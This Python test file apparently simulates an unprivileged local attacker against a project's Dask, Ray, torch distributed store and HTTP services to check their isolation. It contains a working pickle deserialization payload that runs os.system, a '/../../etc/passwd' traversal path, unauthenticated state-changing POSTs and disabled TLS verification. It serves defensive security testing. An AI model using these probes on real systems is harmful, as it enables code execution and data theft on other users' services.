"""Another user of the machine: python -m tests.attacker TARGETS.json UID prints what it reached, as one line of JSON.

It imports what it needs, then gives up its rights for ever, and knows the port of every server. TARGETS.json holds
{"ports": […], "ray": address or null, "files": […], "secrets": […]}; a secret is any text that only the owner may read.
"""

from __future__ import annotations

import contextlib
import json
import os
import pickle
import socket
import ssl
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import psutil
import ray
import torch.distributed
from distributed import Client
from distributed.security import Security

SECONDS = 3
AT_ONCE = 64
IN_ALL = 60
PAGES = (
    "/",
    "/health",
    "/info",
    "/info/main/workers.html",
    "/info/main/tasks.html",
    "/info/logs.html",
    "/metrics",
    "/status",
    "/json/identity.json",
    "/json/counts.json",
    "/json/index.html",
    "/sitemap.json",
    "/api/v1",
    "/profile",
    "/graph",
    "/tasks",
    "/individual-profile",
    "/eventstream",
    "/proxy/8787/127.0.0.1/status",
    "/api/state",
    "/api/scores",
    "/api/picture?id=1",
    "/api/jobs/",
    "/api/version",
    "/logs",
    "/nodes?view=summary",
    "/../../etc/passwd",
)


class _Code:
    """Runs as code where someone unpickles it."""

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, ("echo reached > /tmp/astroml_attacker_was_here",)


def _become(uid: int) -> None:
    """Another user, without a way back."""
    os.setgroups([])
    os.setgid(uid)
    os.setuid(uid)
    os.environ.update({"HOME": "/tmp", "USER": "nobody"})
    for name in [name for name in os.environ if name.startswith(("RAY_", "DASK_", "ASTROML_"))]:
        del os.environ[name]


def _dask(address: str, security: Security | None) -> str | None:
    with Client(address, timeout=f"{SECONDS}s", security=security, set_as_default=False) as client:
        return f"code as uid {client.run_on_scheduler(os.getuid)}"


def _comm(port: int, data: bytes, tls: bool) -> str | None:
    """Send bytes to a port and read what comes."""
    with contextlib.ExitStack() as stack:
        plain = stack.enter_context(socket.create_connection(("127.0.0.1", port), timeout=SECONDS))
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        connection = stack.enter_context(context.wrap_socket(plain)) if tls else plain
        connection.settimeout(SECONDS)
        connection.sendall(data)
        return connection.recv(65536).decode("latin-1")


def _page(port: int, path: str, method: str) -> str | None:
    request = urllib.request.Request(f"http://127.0.0.1:{port}{path}", method=method)
    if method == "POST":
        request.data = json.dumps({"object_id": "1", "score": 5}).encode()
        request.add_header("Content-Type", "application/json")
        request.add_header("Origin", f"http://127.0.0.1:{port}")
    with urllib.request.urlopen(request, timeout=SECONDS) as answer:
        text: str = answer.read(1_000_000).decode("latin-1")
        return f"POST {path} was accepted" if method == "POST" else text


def _ray(address: str) -> str | None:
    ray.init(address=address, log_to_driver=False, logging_level="CRITICAL", _node_ip_address="127.0.0.1")

    @ray.remote(num_cpus=0)
    def who() -> int:
        return os.getuid()

    return f"code as uid {ray.get(who.remote(), timeout=30)}"


def _store(port: int) -> str | None:
    """Torch's store of a group: whoever connects reads and writes it."""
    from datetime import timedelta

    store = torch.distributed.TCPStore("127.0.0.1", port, is_master=False, timeout=timedelta(seconds=SECONDS))
    store.set("attacker", "was here")
    return f"code: the group's store, {store.num_keys()} keys"


def _file(path: str) -> str | None:
    return Path(path).read_bytes()[:100_000].decode("latin-1")


def _tried(work: Callable[[], str | None]) -> str:
    """What an attempt gave; nothing where it failed."""
    try:
        return work() or ""
    except BaseException:
        return ""


def attack(targets: dict[str, Any]) -> dict[str, Any]:
    """Everything that it can think of; reached: what was answered and holds a secret, or says that code ran."""
    secrets = [*targets["secrets"], "code as uid", "code:", "was accepted"]
    mine = Security.temporary()
    message = pickle.dumps(_Code())
    tries: list[tuple[str, Callable[[], str | None]]] = []
    for port in targets["ports"]:
        tries += [(f"dask tcp {port}", lambda p=port: _dask(f"tcp://127.0.0.1:{p}", None))]
        tries += [(f"dask tls {port}", lambda p=port: _dask(f"tls://127.0.0.1:{p}", mine))]
        frames = (1).to_bytes(8, "little") + len(message).to_bytes(8, "little") + message
        for tls in (False, True):
            tries += [(f"pickle {port} {tls}", lambda p=port, t=tls, f=frames: _comm(p, f, t))]
            tries += [(f"bytes {port} {tls}", lambda p=port, t=tls: _comm(p, b"\x00" * 4096, t))]
        tries += [(f"GET {port} {path}", lambda p=port, path=path: _page(p, path, "GET")) for path in targets["pages"]]
        posts = ("/api/score", "/api/undo", "/api/rank", "/api/jobs/", "/api/v1/retire_workers")
        tries += [(f"POST {port} {path}", lambda p=port, path=path: _page(p, path, "POST")) for path in posts]
        if targets["torch"]:
            tries += [(f"store {port}", lambda p=port: _store(p))]
    tries += [(f"file {path}", lambda path=path: _file(path)) for path in targets["files"]]
    reached, answered = [], 0
    if targets["ray"]:
        tries += [("ray", lambda: None)]
        reached += [f"ray: {secret}" for secret in secrets if secret in _tried(lambda: _ray(targets["ray"]))]
    pool, ends = ThreadPoolExecutor(AT_ONCE), time.monotonic() + IN_ALL
    for name, future in [(name, pool.submit(_tried, work)) for name, work in tries]:
        with contextlib.suppress(TimeoutError):  # pages that stream for ever
            found = future.result(max(0.01, ends - time.monotonic()))
            answered += bool(found)
            reached += [f"{name}: {secret}" for secret in secrets if secret in found]
    if Path("/tmp/astroml_attacker_was_here").exists():
        reached.append("code ran")
    return {"uid": os.getuid(), "attempts": len(tries), "answered": answered, "reached": reached}


def listening(pid: int) -> dict[int, str]:
    """Port -> address that a process and its descendants listen on."""
    found = {}
    for process in [psutil.Process(pid), *psutil.Process(pid).children(recursive=True)]:
        with contextlib.suppress(psutil.Error):
            for one in process.net_connections("inet"):
                if one.status == psutil.CONN_LISTEN:
                    found[one.laddr.port] = one.laddr.ip
    return found


if __name__ == "__main__":
    given = {"ray": None, "files": [], "torch": False, "pages": PAGES, **json.loads(Path(sys.argv[1]).read_text())}
    _become(int(sys.argv[2]))
    sys.stdout.write("\n" + json.dumps(attack(given)) + "\n")
    sys.stdout.flush()
    os._exit(0)
